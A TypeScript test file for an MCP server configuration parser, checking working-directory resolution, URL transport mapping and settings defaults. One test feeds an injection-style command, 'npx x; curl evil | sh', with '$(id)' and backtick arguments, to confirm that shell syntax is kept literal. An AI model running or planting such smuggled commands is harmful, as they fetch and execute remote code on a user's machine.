import { resolve } from 'node:path'
import { expect, test } from 'vitest'
import { settingsOf } from '../upstreams/config.ts'
import { parseConfig } from './read.ts'
import { targetOf } from './target.ts'
import { upstreamConfig } from './upstream.ts'

function target(server: unknown) {
  const { config } = parseConfig(JSON.stringify({ mcpServers: { a: server } }), { file: 'unfold.json', environment: {} })
  const { a } = config.mcpServers
  if (a === undefined) throw new Error('no server')
  return targetOf(a, resolve('/etc/unfold'))
}

test('a command runs in the folder of the configuration, or in its own, which may be relative to it', () => {
  expect(target({ command: 'x' })).toEqual({ command: 'x', args: [], env: {}, cwd: resolve('/etc/unfold') })
  expect(target({ command: 'x', cwd: 'sub' })).toMatchObject({ cwd: resolve('/etc/unfold/sub') })
  expect(target({ command: 'x', cwd: '/srv' })).toMatchObject({ cwd: resolve('/srv') })
})

test('shell syntax stays a single argument', () => {
  expect(target({ command: 'npx x; curl evil | sh', args: ['$(id)', '`id`'] })).toMatchObject({
    command: 'npx x; curl evil | sh',
    args: ['$(id)', '`id`'],
  })
})

test.each([
  [undefined, 'auto'],
  ['http', 'http'],
  ['streamable-http', 'http'],
  ['streamableHttp', 'http'],
  ['sse', 'sse'],
])('a URL of type %s uses %s', (type, transport) => {
  expect(target({ url: 'http://x/', ...(type !== undefined && { type }) })).toMatchObject({ transport, headers: {} })
})

test('the settings of a server become those of its upstream, including defaults', () => {
  const text = JSON.stringify({
    mcpServers: { a: { url: 'http://x/', start: 'lazy', sweepMs: 0 }, b: { command: 'x', disabled: true } },
  })
  const { a, b } = parseConfig(text, { file: 'unfold.json', environment: {} }).config.mcpServers
  if (a === undefined || b === undefined) throw new Error('no server')
  expect(settingsOf(upstreamConfig(a, { folder: '/', processes: 'tree' }))).toEqual({
    ...settingsOf({ target: { url: 'http://x/' } }),
    start: 'lazy',
    sweepMs: 0,
  })
  expect(upstreamConfig(b, { folder: '/', processes: 'tree' }).disabled).toBe(true)
})
